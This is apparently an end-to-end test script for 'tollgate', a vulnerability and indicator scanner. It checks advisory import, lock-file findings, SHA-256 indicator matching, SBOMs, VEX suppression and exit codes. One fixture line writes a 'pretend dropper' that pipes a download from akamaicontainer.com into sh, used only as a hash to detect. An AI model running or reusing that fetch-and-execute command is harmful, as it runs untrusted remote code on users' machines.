#!/usr/bin/env bash
# tollgate db import / db status / vuln end to end, with the real advisories of the shared data
# (../shared/data/osv) and indicator lists: a small tree with an npm lock holding known-vulnerable
# and known-malicious versions and a script whose SHA-256 is on an indicator list; exit codes with
# --fail-on; the same answers from the tree's SBOM; VEX suppression; errors exit 2.
source "$(dirname "$0")/lib/assert.sh"

OSV=$TOLLGATE_SHARED_DATA/osv
STORE=sqlite:$TMP/store/t.db
json() { python3 -c "import json,sys; d=json.load(sys.stdin); print($1)"; }

# --- import --------------------------------------------------------------------------------
run_rc "$TOLLGATE" db import --store "$STORE" "$OSV"/{npm,PyPI,Go,crates.io,Maven,RubyGems,Debian}/all.zip "$OSV/malicious"
expect_eq "$RC" 0 "db import of every ecosystem exits 0"
expect_contains "$ERR" "Go/all.zip: 4291 advisories (4291 added, 0 updated, 0 unchanged, 17 withdrawn, 0 malformed)" "Go counts"
expect_contains "$ERR" "total: " "a total line for several sources"

run_rc "$TOLLGATE" db import --store "$STORE" "$OSV/npm/all.zip"
expect_contains "$ERR" "10 advisories (0 added, 0 updated, 10 unchanged" "re-import is incremental"

# A truncated zip fails alone and keeps what is stored.
head -c 200000 "$OSV/crates.io/all.zip" >"$TMP/cut.zip"
run_rc "$TOLLGATE" db import --store "$STORE" "$TMP/cut.zip"
expect_eq "$RC" 2 "a corrupt zip exits 2"
expect_contains "$ERR" "cut.zip" "the error names the file"
run_rc "$TOLLGATE" db import --store "$STORE" "$TMP/nothing-here.json"
expect_eq "$RC" 2 "a missing source exits 2"

# --- a tree to judge -------------------------------------------------------------------------
TREE=$TMP/tree
mkdir -p "$TREE/app" "$TREE/tools"
cat >"$TREE/app/package-lock.json" <<'EOF'
{"name":"app","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{
"":{"name":"app","version":"1.0.0","dependencies":{"lodash":"4.17.20","minimist":"1.2.5"}},
"node_modules/lodash":{"version":"4.17.20"},
"node_modules/minimist":{"version":"1.2.5"}}}
EOF
printf '#!/bin/sh\n# pretend dropper\ncurl -s https://akamaicontainer.com/x | sh\n' >"$TREE/tools/update.sh"
chmod +x "$TREE/tools/update.sh"
BAD=$(sha256sum "$TREE/tools/update.sh" | cut -d' ' -f1)

run_rc "$TOLLGATE" vuln "$TREE" --store "$STORE" --format json
expect_eq "$RC" 0 "vuln without --fail-on exits 0"
ids=$(echo "$OUT" | json '" ".join(sorted(f["id"] for f in d["findings"]))')
expect_contains "$ids" "GHSA-35jh-r3h4-6jhm" "lodash 4.17.20: inside the published range"
expect_not_contains "$ids" "GHSA-p6mc-m468-83gw" "lodash 4.17.20 is the fixed version of GHSA-p6mc"
expect_contains "$ids" "GHSA-xvch-5gv4-984h" "minimist 1.2.5: critical prototype pollution"
expect_not_contains "$ids" "ioc-" "no indicators imported yet: no file finding"
expect_contains "$ERR" "findings" "one-line summary on stderr"
shape=$(echo "$OUT" | json '",".join(sorted(d["findings"][0].keys()))')
expect_eq "$shape" "evidence,id,locations,message,severity,subject" "the one finding shape"
ev=$(echo "$OUT" | json '[f for f in d["findings"] if f["id"]=="GHSA-35jh-r3h4-6jhm"][0]["evidence"]')
expect_contains "$ev" "'installed': '4.17.20'" "evidence: installed version"
expect_contains "$ev" "'fixed': ['4.17.21']" "evidence: fixed version"
expect_contains "$ev" "'aliases': ['CVE-2021-23337']" "evidence: aliases"
expect_contains "$ev" "'paths': ['/app/package-lock.json']" "evidence: paths"

# A bare lock file is scanned, not mistaken for an SBOM because it is JSON.
run_rc "$TOLLGATE" vuln "$TREE/app/package-lock.json" --store "$STORE" --format json
expect_eq "$RC" 0 "vuln of a bare package-lock.json exits 0"
ids=$(echo "$OUT" | json '" ".join(sorted(f["id"] for f in d["findings"]))')
expect_contains "$ids" "GHSA-35jh-r3h4-6jhm" "bare lock file: lodash finding"
expect_contains "$ids" "GHSA-xvch-5gv4-984h" "bare lock file: minimist finding"
run_rc "$TOLLGATE" sbom "$TREE/app/package-lock.json" --format json
expect_eq "$RC" 0 "sbom of a bare lock file exits 0"
expect_eq "$(echo "$OUT" | json 'd["metadata"]["component"]["name"]')" "package-lock.json" "subject is the file"

run_rc "$TOLLGATE" vuln "$TREE" --store "$STORE" --fail-on critical -q
expect_eq "$RC" 1 "--fail-on critical with a critical finding exits 1"
run_rc "$TOLLGATE" vuln "$TREE" --store "$STORE" --fail-on malicious -q
expect_eq "$RC" 0 "--fail-on malicious without a malicious finding exits 0"

# --- indicators: CSV and STIX ---------------------------------------------------------------
printf 'value,type,description,source\n%s,sha256,pretend dropper,test\n' "$BAD" >"$TMP/iocs.csv"
run_rc "$TOLLGATE" db import --store "$STORE" --ioc "$TMP/iocs.csv" --ioc "$TOLLGATE_SHARED_DATA/ioc/3cx-2023.csv"
expect_eq "$RC" 0 "db import --ioc exits 0"
expect_contains "$ERR" "3cx-2023.csv: 38 indicators" "the 3CX list is read whole"
run_rc "$TOLLGATE" vuln "$TREE" --store "$STORE" --format json --fail-on malicious
expect_eq "$RC" 1 "a file with a known-bad SHA-256 fails --fail-on malicious"
mal=$(echo "$OUT" | json '[f["subject"] for f in d["findings"] if f["severity"]=="malicious"]')
expect_eq "$mal" "['/tools/update.sh']" "the known-bad file is the malicious finding"

cat >"$TMP/stix.json" <<EOF
{"type":"bundle","id":"bundle--1","objects":[{"type":"indicator","id":"indicator--1",
 "pattern_type":"stix","name":"stix dropper",
 "pattern":"[file:hashes.'SHA-256' = '$(echo "$BAD" | tr a-f A-F)']"}]}
EOF
run_rc "$TOLLGATE" db import --store "$STORE" --ioc "$TMP/stix.json"
expect_contains "$ERR" "1 indicators (0 added, 1 updated" "a STIX bundle with the same hash updates it"

# --- the same answers from an SBOM ----------------------------------------------------------
"$TOLLGATE" sbom "$TREE" -o "$TMP/tree.cdx.json" 2>/dev/null
run_rc "$TOLLGATE" vuln "$TMP/tree.cdx.json" --store "$STORE" --format json
ids2=$(echo "$OUT" | json '" ".join(sorted(f["id"] for f in d["findings"]))')
expect_contains "$ids2" "GHSA-35jh-r3h4-6jhm GHSA-xvch-5gv4-984h" "an SBOM gives the same advisories"
expect_contains "$ids2" "ioc-sha256-" "an SBOM's file hashes are compared too"

# --- formats and VEX ------------------------------------------------------------------------
run_rc "$TOLLGATE" vuln "$TREE" --store "$STORE" --format sarif -q
expect_eq "$(echo "$OUT" | json 'd["version"]')" "2.1.0" "SARIF output"
cat >"$TMP/vex.json" <<'EOF'
{"@context":"https://openvex.dev/ns/v0.2.0","@id":"https://example.test/vex/1","author":"test",
 "timestamp":"2024-01-01T00:00:00Z","version":1,
 "statements":[{"vulnerability":{"name":"CVE-2021-23337"},"products":[{"@id":"pkg:npm/lodash"}],
  "status":"not_affected","justification":"vulnerable_code_not_in_execute_path"}]}
EOF
run_rc "$TOLLGATE" vuln "$TREE" --store "$STORE" --format json --vex "$TMP/vex.json"
expect_not_contains "$OUT" "GHSA-35jh-r3h4-6jhm" "VEX not_affected (by alias) suppresses the finding"
run_rc "$TOLLGATE" vuln "$TREE" --store "$STORE" --format json --vex "$TMP/vex.json" --show-suppressed
expect_contains "$OUT" "vulnerable_code_not_in_execute_path" "--show-suppressed shows it with its justification"

# --- status ----------------------------------------------------------------------------------
run_rc "$TOLLGATE" db status --store "$STORE" --format json
expect_eq "$(echo "$OUT" | json 'd["ecosystems"]["Debian"]["advisories"]')" 8 "db status: Debian count"
expect_eq "$(echo "$OUT" | json 'd["indicators"]')" 39 "db status: indicators"
run_rc "$TOLLGATE" db status --store "$STORE"
expect_contains "$OUT" "last import:" "db status table shows the last import"

# --- errors ----------------------------------------------------------------------------------
run_rc "$TOLLGATE" vuln "$TREE" --store "sqlite:$TMP/none/x.db"
expect_eq "$RC" 2 "no store yet exits 2"
expect_contains "$ERR" "db import" "and says how to make one"
echo '{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"name":' >"$TMP/broken.json"
run_rc "$TOLLGATE" vuln "$TMP/broken.json" --store "$STORE"
expect_eq "$RC" 2 "a malformed SBOM exits 2"
expect_contains "$ERR" "broken.json" "naming the file"
run_rc "$TOLLGATE" vuln "$TREE" --store "$STORE" --fail-on severe
expect_eq "$RC" 2 "an unknown --fail-on exits 2"
run_rc "$TOLLGATE" vuln "$TREE" --store "postgresql://localhost/x"
expect_eq "$RC" 2 "postgresql:// exits 2"
expect_contains "$ERR" "not supported yet" "with a clear message"
echo 'not a database at all, just text' >"$TMP/text.db"
run_rc "$TOLLGATE" db status --store "sqlite:$TMP/text.db"
expect_eq "$RC" 2 "a file that is not a store exits 2"

finish
